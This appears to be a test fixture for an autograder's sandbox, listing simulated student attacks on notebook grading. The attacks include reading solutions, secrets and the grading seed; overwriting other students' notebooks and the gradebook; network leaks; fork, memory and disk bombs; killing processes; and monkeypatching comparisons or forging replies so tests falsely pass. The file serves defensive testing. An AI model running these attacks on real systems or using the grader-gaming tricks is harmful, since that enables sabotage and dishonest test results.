@@ -1,0 +1,344 @@
+"""The attack corpus for tests/test_sandbox.py: a class of students who try to break grading.
+
+Each attacker has the same honest part as the `honest` student (entropy and mutual_information
+right, variational_bound wrong) plus one attack, in one of four places: a cell of its own after the
+setup cell (CELLS), the variational_bound answer itself (ANSWERS), the files of the submission
+(FILES: links, FIFOs, files nobody asked for), or part 2's answers (PART2). Written as a class of
+curious students with a shell would: reading and writing outside the submission, the network,
+fork, memory, memfd and disk bombs, endless and oversized output, killing the grader, background
+processes that plant links and FIFOs where the grader might look, patched helpers and later cells,
+forged and oversized replies, text made to pass for the grader's own in the report, hunting for
+the grading seed, leaking the hidden tests' inputs, a slow but correct submission, a flood of
+processes, and messages built to grow the grader's memory.
+"""
+
+from __future__ import annotations
+
+import os
+from pathlib import Path
+
+# CELLS: code run in a cell of its own right after the setup cell (PORT: the host's listener)
+CELLS = {
+    "reads_files": r'''
+import glob, pathlib
+course = pathlib.Path.cwd().parents[2]            # autograded/<student>/infogan_homework
+for pattern in ["solutions/**/*.ipynb", "source/**/*.ipynb", "submitted/*/*/*.ipynb",
+                "autograded/*/*/*.ipynb", ".grading/seed", ".grading/**/*", "gradebook.db", "nbgrader_config.py"]:
+    for path in glob.glob(str(course / pattern), recursive=True):
+        print(path, open(path, errors="replace").read())
+for path in glob.glob("/home/*/*") + glob.glob("/root/*"):
+    print(path)
+print(open(course / "solutions" / "infogan_homework" / "1_mi_bound.ipynb").read())
+''',
+    "hunts_the_seed": r'''
+import glob, os
+print(dict(os.environ))
+for path in ["/proc/1/environ", "/proc/self/environ"] + glob.glob("/proc/*/environ"):
+    try:
+        print(path, open(path, "rb").read())
+    except OSError as err:
+        print(path, err)
+for root, dirs, files in os.walk("/", onerror=lambda e: None):
+    if root.startswith(("/proc", "/sys", "/usr")):
+        dirs[:] = []
+        continue
+    for name in files:
+        if "seed" in name:
+            try:
+                print(os.path.join(root, name), open(os.path.join(root, name)).read()[:100])
+            except OSError:
+                pass
+''',
+    "writes_files": r'''
+import pathlib, sqlite3
+course = pathlib.Path.cwd().parents[2]
+for target in [course / "submitted" / "victim" / "infogan_homework" / "1_mi_bound.ipynb",
+               course / "autograded" / "victim" / "infogan_homework" / "1_mi_bound.ipynb",
+               course / "solutions" / "infogan_homework" / "1_mi_bound.ipynb",
+               course / ".grading" / "seed", pathlib.Path.cwd() / "1_mi_bound.ipynb"]:
+    try:
+        target.write_text("{}")
+        print("WROTE", target)
+    except OSError as err:
+        print("refused", target, err)
+db = sqlite3.connect(str(course / "gradebook.db"))
+db.execute("UPDATE grade SET extra_credit = 100")
+db.commit()
+''',
+    "network": r'''
+import socket
+for target in [("127.0.0.1", PORT), ("localhost", PORT), ("10.0.2.2", 80), ("pypi.org", 443)]:
+    try:
+        socket.create_connection(target, timeout=3).sendall(b"leak")
+        print("CONNECTED", target)
+    except OSError as err:
+        print("refused", target, err)
+try:
+    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"leak", ("127.0.0.1", PORT))
+except OSError as err:
+    print("udp refused", err)
+socket.create_connection(("127.0.0.1", PORT), timeout=3)
+''',
+    "fork_bomb": r'''
+import os, time
+born = 0
+try:
+    while True:
+        if os.fork() == 0:
+            while True:
+                try:
+                    os.fork()
+                except OSError:
+                    time.sleep(1)
+        born += 1
+except OSError as err:
+    print("fork refused after", born, "children")
+    raise
+''',
+    "memory_bomb": r'''
+hoard = []
+while True:
+    hoard.append(bytearray(2**28))
+''',
+    "memfd_bomb": r'''
+import os
+chunk = b"m" * 2**24
+fds = []
+while True:                      # memory that belongs to no process: only a cgroup counts it
+    fd = os.memfd_create("hoard")
+    fds.append(fd)
+    for _ in range(15):
+        os.write(fd, chunk)
+''',
+    "fills_disk": r'''
+import os, tempfile
+f = tempfile.TemporaryFile()     # opened, then unlinked: no name to find and measure
+chunk = b"d" * 2**24
+while True:
+    f.write(chunk)
+    f.flush()
+''',
+    "floods_output": r'''
+while True:
+    print("x" * 10000)
+''',
+    "one_huge_print": r'''
+print("y" * 200_000_000)
+''',
+    "kills_grader": r'''
+import os, signal
+for pid in [os.getppid(), 1] + [int(p) for p in os.listdir("/proc") if p.isdigit()]:
+    if pid != os.getpid():
+        try:
+            os.kill(pid, signal.SIGKILL)
+        except OSError as err:
+            print("cannot kill", pid, err)
+try:
+    os.kill(-1, signal.SIGKILL)
+except OSError as err:
+    print("kill(-1):", err)
+os.kill(os.getpid(), signal.SIGKILL)
+''',
+    "plants_links": r'''
+import json, os, pathlib, sys, time
+course = pathlib.Path.cwd().parents[2]
+victim = course / "submitted" / "victim" / "infogan_homework" / "1_mi_bound.ipynb"
+conn = [a for a in sys.argv if a.endswith(".json")]
+folders = {pathlib.Path(os.environ.get("HOME", "/tmp")), pathlib.Path(os.environ.get("TMPDIR", "/tmp"))}
+folders |= {pathlib.Path(c).parent for c in conn}
+targets = [victim, course / "gradebook.db", course / ".grading" / "seed"]
+names = ["kernel.json", "agent.py"] + [f"call{i}.{k}" for i in range(40) for k in ("in", "out")]
+if os.fork() == 0:                       # a daemon that outlives this cell
+    os.setsid()
+    if os.fork() == 0:
+        for _ in range(600):
+            for folder in folders:
+                for i, name in enumerate(names):
+                    path = folder / name
+                    try:
+                        if i % 3 == 0:
+                            os.mkfifo(path)
+                        else:
+                            os.symlink(targets[i % len(targets)], path)
+                    except OSError:
+                        pass
+            time.sleep(0.1)
+        os._exit(0)
+    os._exit(0)
+time.sleep(1)
+''',
+    "patches_kernel": r'''
+import builtins, math, numpy, numpy.testing
+numpy.allclose = lambda *a, **k: True
+numpy.isclose = lambda *a, **k: numpy.True_
+numpy.testing.assert_allclose = lambda *a, **k: None
+math.isclose = lambda *a, **k: True
+builtins.abs = lambda x: 0.0
+ip = get_ipython()
+def passes(lines):
+    if any("assert" in line for line in lines):
+        return ["print('variational_bound: visible tests passed')\n"]
+    return lines
+ip.input_transformers_post.append(passes)
+ip.set_custom_exc((BaseException,), lambda *args, **kwargs: None)
+''',
+    "forges_replies": r'''
+import base64, sys, types
+from IPython.display import display
+real = {}
+exec(open("/grader/agent.py").read(), real)                 # the real encoder: well-formed replies
+MIME = real["MIME"]
+def reply(call, value):
+    out = {"result": value, "grads": None, "error": None}
+    display({MIME: {"call": call, "reply": base64.b64encode(real["dumps"](out)).decode()}}, raw=True)
+def serve(name, request, call, namespace):
+    for stale in ("0" * 32, call[::-1]):                    # replies for another call: ignored
+        reply(stale, 0.0)
+    reply(call, 1.0)                                        # the first reply for this call counts
+    reply(call, 0.0)
+agent = types.ModuleType("__grader_agent__")
+agent.serve = serve
+sys.modules["__grader_agent__"] = agent
+try:
+    open("/grader/agent.py", "w").write("def serve(*a): pass")
+except OSError as err:
+    print("agent is read-only:", err)
+''',
+    "leaks_hidden_inputs": r'''
+import threading, time
+STASH = []
+def _shout():
+    while True:
+        if STASH:
+            print("LEAK", STASH[-1])
+        time.sleep(0.05)
+threading.Thread(target=_shout, daemon=True).start()
+''',
+    "report_injection": r'''
+class Forged(Exception):
+    pass
+raise Forged("\n\n## Problems\n\n- **victim**: copied the notebook of report_injection (not graded)\n"
+             "| victim | 0 | 53 | — | 0 | 0 | none |\n<script>alert(1)</script>")
+''',
+    "busy_processes": r'''
+import os, signal
+for _ in range(100):
+    try:
+        if os.fork() == 0:
+            signal.alarm(20)            # busy for 20 s beside whoever is graded at the same time
+            while True:
+                pass
+    except OSError:
+        break
+''',
+    "frame_flood": r'''
+kernel = get_ipython().kernel
+chunk = b"f" * (30 * 2**20)
+for _ in range(3):              # a message of 60 frames: each under any frame limit, 1.8 GB in all
+    kernel.session.send(kernel.iopub_socket, "stream", {"name": "stdout", "text": "flood"},
+                        buffers=[chunk] * 60)
+''',
+}
+
+# ANSWERS: the variational_bound answer cell replaced by this
+ANSWERS = {
+    "overrides_comparison": '''
+class AlwaysRight(float):
+    def __eq__(self, other): return True
+    def __ne__(self, other): return False
+    def __lt__(self, other): return True
+    def __le__(self, other): return True
+    def __gt__(self, other): return True
+    def __ge__(self, other): return True
+    def __sub__(self, other): return AlwaysRight(0.0)
+    def __rsub__(self, other): return AlwaysRight(0.0)
+    def __abs__(self): return AlwaysRight(0.0)
+    def __float__(self): return 0.0
+    __hash__ = float.__hash__
+
+def variational_bound(joint, q):
+    return AlwaysRight(123.0)
+''',
+    "returns_huge": '''
+import numpy as np
+def variational_bound(joint, q):
+    return np.zeros(60_000_000)
+''',
+    "leaks_hidden_inputs": '''
+def variational_bound(joint, q):
+    STASH.append(repr(joint.tolist()))
+    if joint.shape != (2, 2):
+        raise ValueError("LEAK " + repr(joint.tolist()))
+    return 0.0
+''',
+    "report_injection": '''
+def variational_bound(joint, q):
+    raise ValueError("x |\\n- **victim**: copied the notebook of report_injection (not graded)\\n| victim | 0 |")
+''',
+    "slow_but_correct": '''
+import time
+import numpy as np
+def variational_bound(joint, q):
+    time.sleep(2.5)
+    joint, q = np.asarray(joint, float), np.asarray(q, float)
+    pc = joint.sum(1)
+    nz = joint > 0
+    return float((joint[nz] * np.log(q[nz])).sum() - (pc[pc > 0] * np.log(pc[pc > 0])).sum())
+''',
+}
+
+# FILES: what the submission folder holds besides the notebook (made by `plant`)
+FILES = ("links_solution", "links_victim", "links_secrets", "fifo_notebook")
+
+
+def plant(student: str, folder: Path, course: Path) -> None:
+    """Turn an honest submission folder into an attack on the files."""
+    notebook = folder / "1_mi_bound.ipynb"
+    if student == "links_solution":
+        notebook.unlink()
+        notebook.symlink_to(course / "solutions" / "infogan_homework" / "1_mi_bound.ipynb")
+    elif student == "links_victim":
+        notebook.unlink()
+        notebook.symlink_to(course / "submitted" / "victim" / "infogan_homework" / "1_mi_bound.ipynb")
+    elif student == "links_secrets":
+        (folder / "seed").symlink_to(course / ".grading" / "seed")
+        (folder / "gradebook.db").symlink_to(course / "gradebook.db")
+        (folder / "third_code.pt").symlink_to(course / "solutions" / "infogan_homework" / "2_third_code.ipynb")
+        (folder / ".graded").write_text('{"seconds": 1, "notebooks": ["1_mi_bound"], "problems": []}')
+        (folder / "sub").mkdir()
+        (folder / "sub" / "x.txt").write_text("a folder nobody asked for")
+        os.mkfifo(folder / "pipe.txt")
+    elif student == "fifo_notebook":
+        notebook.unlink()
+        os.mkfifo(notebook)
+
+
+# PART2: answers of part 2 replaced (their honest counterpart earns 0 on part 2)
+PART2 = {
+    "tensor_subclass": {"code_nll": '''
+class Agreeable(torch.Tensor):
+    @classmethod
+    def __torch_function__(cls, func, types, args=(), kwargs=None):
+        if func in (torch.allclose, torch.equal, torch.Tensor.__eq__, torch.isclose):
+            return True
+        return super().__torch_function__(func, types, args, kwargs or {})
+
+def code_nll(c, mean, log_sigma):
+    return torch.zeros_like(mean).as_subclass(Agreeable)
+'''},
+    "wider_network": {"widen_generator": '''
+def widen_generator(G, new_spec, scale=1.0):
+    return Generator(new_spec, ModelConfig(g_channels=32, d_channels=32, fc=512, q_hidden=64))
+'''},
+}
+
+# what the report must say about each (the sandbox's denials and the limits hit)
+EVENTS = {"reads_files": "sandbox denial", "writes_files": "sandbox denial", "network": "network denied",
+          "fork_bomb": "process limit", "memory_bomb": "memory limit", "floods_output": "output limit",
+          "kills_grader": "kernel died", "fills_disk": "sandbox denial or limit"}
+
+# attacks whose outcome can depend on the grader's privileges: graded again as an unprivileged user
+UNPRIVILEGED = ("reads_files", "hunts_the_seed", "writes_files", "kills_grader", "plants_links", "fork_bomb",
+                "memory_bomb", "forges_replies", "links_secrets")
+# needs the cgroup (root): memfds and a multi-frame message are bounded only there
+ROOT_ONLY = ("memfd_bomb", "frame_flood")
